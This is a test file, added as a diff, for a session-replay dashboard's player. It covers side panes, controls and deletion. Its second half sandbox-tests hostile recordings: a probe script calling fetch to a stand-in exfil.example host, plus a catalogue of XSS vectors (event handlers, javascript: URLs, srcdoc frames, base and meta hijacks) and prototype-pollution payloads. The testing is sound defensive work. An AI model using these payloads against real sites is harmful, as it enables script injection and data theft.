@@ -1,0 +1,276 @@
+// The replay screen: what is shown beside the player, moving about, deleting, and hostile
+// recordings. Recordings are uploaded as a recorder would make them, or as nobody should.
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { gzipSync } from 'node:zlib';
+import { Api, Worker, inReplay, launch, signIn, until } from './support.mjs';
+import { upload as uploadLong } from '../benches/dashboard/recording.mjs';
+
+let worker;
+let browser;
+let page;
+before(async () => {
+  worker = await Worker.start({ ANNOUNCE_SECONDS: '0.1', LEAVE_SECONDS: '1' });
+  browser = await launch();
+  page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
+  await signIn(page, worker.url);
+  await page.getByTestId('empty-first-run').waitFor();
+});
+after(async () => {
+  await browser?.close();
+  await worker?.stop();
+});
+
+const element = (id, tagName, attributes = {}, childNodes = []) => ({ type: 2, tagName, attributes, childNodes, id });
+const text = (id, textContent) => ({ type: 3, textContent, id });
+
+/** A page: `head` and `nodes` are what is in it. Ids below 10 are its own. */
+function snapshot(nodes, head = []) {
+  const body = element(4, 'body', {}, [element(5, 'p', { id: 'innocent', class: 'is-here' }), ...nodes]);
+  return { type: 0, id: 1, childNodes: [{ type: 1, name: 'html', publicId: '', systemId: '', id: 2 }, element(3, 'html', {}, [element(9, 'head', {}, head), body])] };
+}
+
+let counter = 0;
+
+/** Uploads page loads, each a list of events without times: `[ms after the start, event]`. */
+async function upload(...loads) {
+  const start = Date.now();
+  counter += 1;
+  const sid = start.toString(16).padStart(12, '0') + counter.toString(36).padStart(26, 'a');
+  for (const [number, events] of loads.entries()) {
+    const tab = 'abcdefgh'[number].repeat(8);
+    const lines = events.map(([at, event]) => JSON.stringify({ ...event, timestamp: start + at }));
+    const header = { v: 1, sid, tab, window: 'w'.repeat(8), seq: 0, first: 0, n: lines.length, sent: start, end: true };
+    const body = gzipSync([JSON.stringify(header), ...lines].join('\n'));
+    const answer = await fetch(`${worker.url}/i/demo`, { method: 'POST', headers: { origin: worker.url }, body });
+    assert.equal(answer.status, 200, await answer.text());
+  }
+  return { sid, start };
+}
+
+const meta = (href = 'https://victim.example/', size = {}) => ({ type: 4, data: { href, width: 800, height: 600, ...size } });
+const full = (nodes, head) => ({ type: 2, data: { node: snapshot(nodes, head), initialOffset: { left: 0, top: 0 } } });
+const change = (data) => ({ type: 3, data: { source: 0, texts: [], attributes: [], removes: [], adds: [], ...data } });
+const click = (id, x = 10, y = 10) => ({ type: 3, data: { source: 2, type: 2, id, x, y } });
+const custom = (tag, payload) => ({ type: 5, data: { tag, payload } });
+const input = (id) => ({ type: 3, data: { source: 5, id, text: '•••••', isChecked: false, userTriggered: true } });
+
+const show = (sid, query = '') => page.evaluate((hash) => (location.hash = hash), `#/s/demo/${sid}${query}`);
+const shown = () => until('it replays', () => inReplay(page, () => document.getElementById('innocent')?.className === 'is-here'));
+const outer = () => page.frames().findLast((frame) => frame.url().startsWith('data:') && frame.parentFrame() === page.mainFrame());
+
+test('console, requests, errors, forms and web vitals stand beside the page, and lead to their moment', async () => {
+  const form = element(20, 'form', {}, [element(21, 'input', { name: 'email' }), element(22, 'input', { name: 'card' })]);
+  const { sid, start } = await upload([
+    [0, meta()],
+    [1, full([form])],
+    [500, custom('sentiero:environment', { language: 'it', viewport: '800x600' })],
+    [1_000, custom('__console', { level: 'warn', args: ['stock is low', { left: 2 }] })],
+    [2_000, custom('__network', { url: 'https://victim.example/api/cart', type: 'fetch', status: 503, start: Date.now() + 1_900, duration: 120 })],
+    [3_000, custom('error', { message: 'cart is null', source: 'https://victim.example/app.js', lineno: 12, colno: 7, stack: 'TypeError: cart is null\n at pay (app.js:12:7)' })],
+    [4_000, input(21)],
+    [5_000, input(22)],
+    [6_000, input(21)],
+    [7_000, custom('__form_submit', {})],
+    [8_000, custom('__perf', { metric: 'LCP', value: 4_800, rating: 'poor' })],
+    [8_000, custom('__perf', { metric: 'CLS', value: 0.04, rating: 'good' })],
+    [9_000, change({ attributes: [{ id: 5, attributes: { class: 'is-here' } }] })],
+  ]);
+  await show(sid);
+  await shown();
+  const entries = async (pane) => {
+    await page.getByTestId(`pane-${pane}`).click();
+    return page.locator(`#panel-${pane} [data-testid=pane-entry]`);
+  };
+  assert.match(await (await entries('console')).first().innerText(), /stock is low[^]*warn/);
+  assert.match(await (await entries('network')).first().innerText(), /\/api\/cart[^]*503/);
+  const errors = await entries('errors');
+  assert.match(await errors.first().innerText(), /cart is null[^]*app\.js:12:7/);
+  assert.match(await page.locator('#panel-errors pre').textContent(), /at pay/);
+  await errors.first().click();
+  await until('the error leads to its moment', async () => page.url().includes('t=3000'));
+  const forms = (await (await entries('forms')).allInnerTexts()).join('\n');
+  assert.match(forms, /email[^]*came back once[^]*Field 1 of 2/);
+  assert.match(forms, /card[^]*1\.0s to the next[^]*Field 2 of 2/);
+  assert.ok(!forms.includes('•'), 'never what was entered');
+  await page.getByTestId('pane-details').click();
+  const vitals = await page.getByTestId('vital').allInnerTexts();
+  assert.match(vitals[0], /LCP[^]*4,800 ms[^]*poor/);
+  assert.match(vitals[1], /CLS[^]*0\.040[^]*good/);
+  await page.getByTestId('pane-activity').click();
+  assert.ok(start > 0);
+});
+
+test('keys: play, seek, speed, page loads, clicks over the page', async () => {
+  const { sid } = await upload(
+    [[0, meta()], [1, full([])], [10_000, change({ attributes: [{ id: 5, attributes: { class: 'is-here' } }] })]],
+    [[20_000, meta()], [20_001, full([element(30, 'button', { style: 'position:absolute;left:100px;top:50px;width:80px;height:40px' })])], [21_000, click(30, 120, 60)], [21_300, click(30, 121, 61)], [21_600, click(30, 122, 60)], [29_000, change({ attributes: [{ id: 5, attributes: { class: 'is-here' } }] })]],
+  );
+  await show(sid, `?tab=${'a'.repeat(8)}&t=2000`);
+  await shown();
+  const time = page.getByTestId('time-current');
+  await until('the link lands on the moment', async () => (await time.innerText()) === '0:02');
+  await page.keyboard.press('ArrowRight');
+  await until('5 s on', async () => (await time.innerText()) === '0:07');
+  const speed = page.getByTestId('speed');
+  await page.keyboard.press('ArrowDown');
+  assert.equal(await speed.getAttribute('data-speed'), '0.5');
+  await page.keyboard.press('ArrowUp');
+  await page.keyboard.press('ArrowUp');
+  assert.equal(await speed.getAttribute('data-speed'), '2');
+  await page.keyboard.press(' ');
+  await page.getByTestId('pause').waitFor();
+  await page.keyboard.press(' ');
+  await page.getByTestId('play').waitFor();
+  await page.keyboard.press('t');
+  await until('the next page load', () => page.url().includes(`tab=${'b'.repeat(8)}`));
+  await shown();
+  await page.getByTestId('activity-row').last().click();
+  await page.keyboard.press('h');
+  await page.getByTestId('heat-legend').waitFor();
+  const dots = () => outer().evaluate(() => [...document.querySelectorAll('.heat-dot')].map((dot) => ({ kind: dot.dataset.kind, node: dot.dataset.node, x: parseFloat(dot.style.left), text: dot.textContent })));
+  const drawn = await until('the clicks are drawn', async () => (await dots()).length === 3 && dots());
+  assert.deepEqual(drawn.map(({ kind, node, x }) => [kind, node, x]), [['2', '30', 120], ['2', '30', 121], ['2', '30', 122]]);
+  assert.equal(drawn[0].text, '3×');
+  assert.match(await page.getByTestId('heat-legend').innerText(), /3 clicks\s+3 rage/);
+  // With the element, not with the place: before it was clicked there is nothing.
+  await page.getByTestId('timeline').focus();
+  await page.keyboard.press('Home');
+  await until('no clicks yet', async () => (await dots()).length === 0);
+  await page.keyboard.press('h');
+});
+
+test('page loads are played one after the other, or each by itself', async () => {
+  const load = (from) => [[from, meta()], [from + 1, full([])], [from + 900, change({ attributes: [{ id: 5, attributes: { class: 'is-here' } }] })]];
+  const { sid } = await upload(load(0), load(5_000), load(9_000));
+  const [first, second, third] = ['a', 'b', 'c'].map((name) => `tab=${name.repeat(8)}`);
+  await show(sid, `?${first}`);
+  await shown();
+  await page.getByTestId('play').click();
+  await until('on to the last', () => page.url().includes(third));
+  await until('and no farther', async () => /Play again/.test((await page.getByTestId('play').getAttribute('aria-label').catch(() => '')) ?? ''));
+  await page.getByTestId('joined').click();
+  await page.getByTestId('tab-switch').nth(1).click();
+  await until('the second', () => page.url().includes(second));
+  await shown();
+  await page.getByTestId('play').click();
+  await until('it ends', async () => /Play again/.test((await page.getByTestId('play').getAttribute('aria-label').catch(() => '')) ?? ''));
+  assert.ok(page.url().includes(second), 'by itself');
+});
+
+test('a session is deleted after a question', async () => {
+  const { sid } = await upload([[0, meta()], [1, full([])]]);
+  const api = await Api.signIn(worker.url);
+  await until('it is listed', async () => (await api.sessions()).find((session) => session.sid === sid));
+  await show(sid);
+  await page.getByTestId('delete-session').click();
+  await page.getByTestId('delete-confirm').click();
+  await until('back at the list', () => page.url().endsWith('#/s/demo'));
+  await until('it is gone', async () => !(await api.sessions()).some((session) => session.sid === sid));
+});
+
+test('a long recording: a part of it is in the frame, and what is decoded is decoded elsewhere', async () => {
+  const { sid, start } = await uploadLong(worker.url, 'demo', { minutes: 20, megabytes: 8, keyframe: 60 });
+  await show(sid);
+  const clock = () => inReplay(page, () => Number(document.getElementById('clock')?.className.slice(4)));
+  await until('the first frame', async () => ((await clock()) ?? 0) >= start);
+  assert.equal(page.workers().length, 1, 'a worker decodes');
+  await page.getByTestId('timeline').focus();
+  await page.keyboard.press('End');
+  await until('the end', async () => ((await clock()) ?? 0) > start + 19 * 60_000);
+  await page.keyboard.press('Home');
+  await until('the start again', async () => ((await clock()) ?? Infinity) < start + 2_000);
+  await show(sid, `?t=${10 * 60_000}`);
+  await until('the middle', async () => Math.abs(((await clock()) ?? 0) - start - 10 * 60_000) < 2_000);
+});
+
+// ── Hostile recordings ────────────────────────────────────────────────────
+
+const PROBE = 'self.ran=1;fetch("https://exfil.example/ran");top.document.title="owned";parent.postMessage("owned","*")';
+const DATA = `data:text/html,<script>${PROBE}</script>`;
+/** What may be asked for: what a page shows. */
+const PASSIVE = /\/passive\.(png|css|woff2|mp4)$/;
+
+const HOSTILE = {
+  'script elements': [element(20, 'script', {}, [text(21, PROBE)]), element(22, 'script', { src: 'https://exfil.example/x.js' }), element(23, 'script', { type: 'module', src: DATA }), element(24, 'noscript', {}, [element(25, 'script', {}, [text(26, PROBE)])])],
+  'event handlers': [element(20, 'img', { src: 'https://exfil.example/passive.png', onerror: PROBE, onload: PROBE }), element(21, 'svg', { onload: PROBE }), element(22, 'video', { src: 'https://exfil.example/passive.mp4', onerror: PROBE }), element(23, 'details', { open: '', ontoggle: PROBE }), element(24, 'input', { autofocus: '', onfocus: PROBE })],
+  'addresses that are scripts': [element(20, 'a', { href: `javascript:${PROBE}` }), element(21, 'iframe', { src: `javascript:${PROBE}` }), element(22, 'embed', { src: `javascript:${PROBE}` }), element(23, 'object', { data: `javascript:${PROBE}` }), element(24, 'form', { action: `javascript:${PROBE}` }, [element(25, 'button', {})]), { ...element(26, 'svg', {}, [{ ...element(27, 'a', { 'xlink:href': `javascript:${PROBE}` }), isSVG: true }]), isSVG: true }],
+  'frames and plugins': [element(20, 'iframe', { src: 'https://exfil.example/frame' }), element(21, 'iframe', { srcdoc: `<script>${PROBE}</script><img src="https://exfil.example/passive.png">` }), element(22, 'iframe', { src: DATA }), element(23, 'object', { data: 'https://exfil.example/object', type: 'text/html' }), element(24, 'embed', { src: 'https://exfil.example/embed', type: 'text/html' }), element(25, 'frameset', {}, [element(26, 'frame', { src: 'https://exfil.example/frameset' })]), element(27, 'portal', { src: 'https://exfil.example/portal' })],
+  'forms that send themselves': [element(20, 'form', { action: 'https://exfil.example/form', method: 'post', target: '_top' }, [element(21, 'input', { name: 'a', value: '1', autofocus: '' }), element(22, 'button', { type: 'submit' })]), element(23, 'isindex', { action: 'https://exfil.example/isindex' })],
+  'links that fetch': [element(20, 'link', { rel: 'prefetch', href: 'https://exfil.example/prefetch' }), element(21, 'link', { rel: 'prerender', href: 'https://exfil.example/prerender' }), element(22, 'link', { rel: 'modulepreload', href: 'https://exfil.example/module.js' }), element(23, 'link', { rel: 'preload', as: 'script', href: 'https://exfil.example/preload.js' }), element(24, 'link', { rel: 'manifest', href: 'https://exfil.example/manifest' }), element(25, 'link', { rel: 'import', href: 'https://exfil.example/import' }), element(26, 'a', { href: 'https://exfil.example/a', ping: 'https://exfil.example/ping' }), element(27, 'link', { rel: 'stylesheet', href: 'https://exfil.example/passive.css' })],
+  'pages that leave': [element(20, 'meta', { 'http-equiv': 'refresh', content: '0;url=https://exfil.example/refresh' }), element(21, 'meta', { 'http-equiv': 'Content-Security-Policy', content: 'script-src * \'unsafe-inline\'' }), element(22, 'meta', { 'http-equiv': 'set-cookie', content: 'a=b' })],
+  'another base': [element(20, 'base', { href: 'https://exfil.example/', target: '_top' }), element(21, 'img', { src: 'passive.png' }), element(22, 'script', { src: 'x.js' })],
+  'styles that are scripts': [element(20, 'style', {}, [text(21, `p{background:url("javascript:${PROBE}");behavior:url(https://exfil.example/x.htc);-moz-binding:url(https://exfil.example/x.xml)}@import url("https://exfil.example/passive.css");`)]), element(22, 'p', { style: `background:url("javascript:${PROBE}")` })],
+  'names of prototypes': [element(20, 'p', JSON.parse('{"__proto__":{"polluted":"1"},"constructor":{"prototype":{"polluted":"1"}},"class":"x"}')), JSON.parse('{"type":2,"tagName":"p","attributes":{},"childNodes":[],"id":21,"__proto__":{"polluted":1}}'), element(22, '__proto__', {}), element(23, 'constructor', {})],
+  'elements that cannot be': [element(20, 'p onload=x', {}), element(21, '', {}), element(22, '<script>', {}), element(23, 'p', { '"><script>': '1', ' ': '2', 'on load': PROBE }), { type: 99, id: 24 }, { type: 2, id: 25 }, element(5, 'p', {}), element(-1, 'p', {}), element(2 ** 53, 'p', {})],
+};
+
+/** Events after a good snapshot that make no sense, or too much. */
+const MALFORMED = {
+  'changes of what is not there': [change({ removes: [{ parentId: 77, id: 78 }], texts: [{ id: 79, value: 'x' }], attributes: [{ id: 80, attributes: { class: 'x' } }], adds: [{ parentId: 81, nextId: null, node: element(82, 'p') }] }), change({ adds: [{ parentId: 4, nextId: 999, previousId: 998, node: element(83, 'p') }] }), change({ adds: [{ parentId: 84, nextId: null, node: element(84, 'p') }] })],
+  'events of other shapes': [{ type: 3, data: null }, { type: 3, data: [] }, { type: 3, data: { source: 0 } }, { type: 3, data: { source: 99 } }, { type: 99, data: {} }, { type: 'x', data: {} }, { type: 3, data: { source: 1, positions: null } }, { type: 3, data: { source: 5, id: 5 } }, { type: 3, data: { source: 8, id: 5, adds: [{ rule: '{{{', index: -1 }] } }, { type: 3, data: { source: 13, id: 5, set: {} } }, { type: 3, data: { source: 9, id: 5, type: 0, property: 'constructor', args: ['x'] } }, { type: 2, data: {} }, { type: 2, data: { node: null } }],
+  'sizes beyond measure': [meta('https://victim.example/', { width: 1e9, height: 1e9 }), { type: 3, data: { source: 4, width: -5, height: 1e300 } }, { type: 3, data: { source: 3, id: 1, x: 1e300, y: -1e300 } }, click(5, 1e300, -1e300), change({ attributes: [{ id: 5, attributes: { style: 'width:99999999px;height:99999999px', class: 'is-here' } }] })],
+  'names of prototypes': [JSON.parse('{"type":3,"data":{"source":0,"texts":[],"removes":[],"adds":[],"attributes":[{"id":5,"attributes":{"__proto__":{"polluted":"1"},"constructor":{"prototype":{"polluted":"1"}}}},{"id":"__proto__","attributes":{"polluted":"1"}},{"id":5,"attributes":{"style":{"__proto__":["x","important"],"constructor":"y"}}}]}}'), custom('__proto__', { polluted: 1 }), custom('constructor', JSON.parse('{"__proto__":{"polluted":1}}'))],
+  'scripts that come later': [change({ adds: [{ parentId: 4, nextId: null, node: element(90, 'script', {}, [text(91, PROBE)]) }, { parentId: 4, nextId: null, node: element(92, 'iframe', { srcdoc: `<script>${PROBE}</script>` }) }] }), change({ attributes: [{ id: 5, attributes: { onclick: PROBE, onmouseover: PROBE, class: 'is-here' } }] }), change({ adds: [{ parentId: 4, nextId: null, node: element(93, 'img', { src: 'https://exfil.example/passive.png' }) }], attributes: [{ id: 93, attributes: { onerror: PROBE } }] }), click(5)],
+};
+
+/** Opens a recording and reports what it reached. */
+async function visit(events) {
+  const asked = [];
+  const opened = [];
+  const hear = (request) => request.url().startsWith('https:') && asked.push(request.url());
+  const hearPage = (other) => opened.push(other.url());
+  page.on('request', hear);
+  page.context().on('page', hearPage);
+  page.on('dialog', (dialog) => (opened.push(dialog.message()), dialog.dismiss()));
+  page.on('download', (download) => opened.push(download.url()));
+  const { sid } = await upload(events);
+  await show(sid);
+  await shown();
+  await page.getByTestId('timeline').focus();
+  await page.keyboard.press('End');
+  await until('the last moment is shown', () => inReplay(page, () => document.documentElement.dataset.last === 'yes' || document.querySelector('.is-last') !== null));
+  page.off('request', hear);
+  page.context().off('page', hearPage);
+  const polluted = [];
+  for (const frame of page.frames()) {
+    const found = await frame.evaluate(() => ({ ran: self.ran, polluted: {}.polluted })).catch(() => ({}));
+    polluted.push(found.ran, found.polluted);
+  }
+  return { asked, opened, polluted, title: await page.title(), url: page.url() };
+}
+
+const last = [30_000, change({ adds: [{ parentId: 4, nextId: null, node: element(999, 'i', { class: 'is-last' }) }] })];
+
+function assertHarmless(name, { asked, opened, polluted, title, url }) {
+  assert.deepEqual(asked.filter((address) => !PASSIVE.test(address)), [], `${name}: only what a page shows is asked for`);
+  assert.deepEqual(opened, [], `${name}: nothing opens`);
+  assert.deepEqual(polluted.filter((found) => found !== undefined), [], `${name}: nothing ran, and no prototype changed`);
+  assert.notEqual(title, 'owned', name);
+  assert.ok(url.startsWith(`${worker.url}/dashboard/#/s/demo/`), `${name}: the page stays`);
+}
+
+for (const [name, nodes] of Object.entries(HOSTILE)) {
+  test(`hostile: ${name}`, { timeout: 60_000 }, async () => {
+    for (const place of [full(nodes), full([], nodes)]) {
+      assertHarmless(name, await visit([[0, meta()], [1, place], last]));
+    }
+  });
+}
+
+for (const [name, events] of Object.entries(MALFORMED)) {
+  test(`malformed: ${name}`, { timeout: 60_000 }, async () => {
+    const timed = events.map((event, i) => [1_000 + i * 500, event]);
+    assertHarmless(name, await visit([[0, meta()], [1, full([])], ...timed, last]));
+  });
+}
+
+test('the frame is of no origin and reaches nothing', async () => {
+  const frame = outer();
+  assert.equal(await frame.evaluate(() => self.origin), 'null');
+  const refused = (look) => frame.evaluate(look).then((value) => value, () => 'refused');
+  assert.equal(await refused(() => { try { return parent.document.title; } catch { return 'refused'; } }), 'refused');
+  assert.equal(await refused(() => { try { return document.cookie; } catch { return 'refused'; } }), 'refused');
+  assert.equal(await refused(() => fetch('https://exfil.example/').then(() => 'came', () => 'refused')), 'refused');
+  assert.equal(await refused((url) => fetch(url).then(() => 'came', () => 'refused')), 'refused');
+});
